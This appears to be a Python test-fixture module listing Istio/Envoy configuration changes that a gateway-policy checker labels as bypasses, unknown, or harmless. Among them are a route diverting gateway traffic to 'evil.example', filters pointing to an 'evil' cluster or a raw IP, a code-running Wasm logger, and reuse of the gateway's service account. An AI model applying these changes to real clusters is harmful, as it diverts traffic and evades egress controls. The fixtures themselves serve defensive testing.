"""Further attacks beside a gateway of base/: what runs code, what else is in the pods, what leads sidecars."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from live import patch, small
from strangers import HOME, added, changed, one, template

if TYPE_CHECKING:
    from strangers import Change, Object

_WASM = "type.googleapis.com/envoy.extensions.access_loggers.wasm.v3.WasmAccessLog"
_SENT = "type.googleapis.com/envoy.extensions.access_loggers.open_telemetry.v3.OpenTelemetryAccessLogConfig"
_TCP_PROXY = "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy"
_NAME = "envoy.filters.network.tcp_proxy"
_OURS = {"portNumber": 8443, "filterChain": {"filter": {"name": _NAME}}}
_LOG = {"name": "mine", "typed_config": {"@type": _WASM}}
_BY_SNI = "type.googleapis.com/envoy.extensions.filters.network.sni_dynamic_forward_proxy.v3.FilterConfig"


def logged(log: Object) -> Object:
    """A patch of the mesh listener's log."""
    proxy = {"name": _NAME, "typed_config": {"@type": _TCP_PROXY, "access_log": [log]}}
    return patch("NETWORK_FILTER", "MERGE", proxy, _OURS)


def annotated(name: str) -> Change:
    return changed("Deployment", lambda it: it["spec"]["template"]["metadata"]["annotations"].update({name: "x"}))


def of_sidecars(context: str, change: Object) -> Object:
    """A patch of the sidecars of a namespace."""
    found = small(change, namespace="shop", labels={})
    found["spec"]["configPatches"][0]["match"] = {"context": context} if context else {}
    return found


PODS = (
    *("v1.multus-cni.io/default-network", "cni.projectcalico.org/ipv4pools", "k8s.ovn.org/pod-networks"),
    *("linkerd.io/inject", "vault.hashicorp.com/agent-inject", "dapr.io/enabled", "kuma.io/sidecar-injection"),
    "container.apparmor.security.beta.kubernetes.io/istio-proxy",
)
FURTHER: dict[str, tuple[Change, str]] = {
    "a log that is a program": (added(small(logged(_LOG))), "bypass"),
    "other pods with its identity": (
        added(one("Deployment", "apps/v1", {"template": template({}, serviceAccountName="istio-egressgateway")}, HOME)),
        "unknown",
    ),
    "a rule that others do not see": (
        changed("DestinationRule", lambda it: it["spec"].update(exportTo=["."])),
        "unknown",
    ),
    "a gateway's route in two": (
        changed(
            "VirtualService",
            lambda it: it["spec"]["tcp"][0]["route"].append({"destination": {"host": "evil.example"}, "weight": 1}),
        ),
        "unknown",
    ),
    **{f"pods with {name}": (annotated(name), "unknown") for name in PODS},
}
LEADING: dict[str, Object] = {
    "a cluster of all others": patch("CLUSTER", "ADD", {"name": "x", "type": "ORIGINAL_DST"}),
    "another cluster": patch("NETWORK_FILTER", "MERGE", {"name": _NAME, "typed_config": {"cluster": "evil"}}),
    "by the name that is asked for": patch(
        "NETWORK_FILTER", "INSERT_BEFORE", {"name": "mine", "typed_config": {"@type": _BY_SNI}}
    ),
    "an address": patch("CLUSTER", "ADD", {"endpoint": {"address": {"socket_address": {"address": "1.1.1.1"}}}}),
}
HARMLESS: dict[str, Any] = {
    "a log that is sent": small(
        logged(
            {
                "name": "mine",
                "typed_config": {"@type": _SENT},
            }
        )
    ),
    "statistics of sidecars": of_sidecars("ANY", patch("HTTP_FILTER", "INSERT_BEFORE", {"name": "istio.stats"})),
    "a timeout of sidecars": of_sidecars(
        "", patch("NETWORK_FILTER", "MERGE", {"name": _NAME, "typed_config": {"idle_timeout": "1s"}})
    ),
    "a limiter within the mesh": of_sidecars(
        "ANY",
        patch("CLUSTER", "ADD", {"address": {"socket_address": {"address": "ratelimit.shop.svc.cluster.local"}}}),
    ),
}
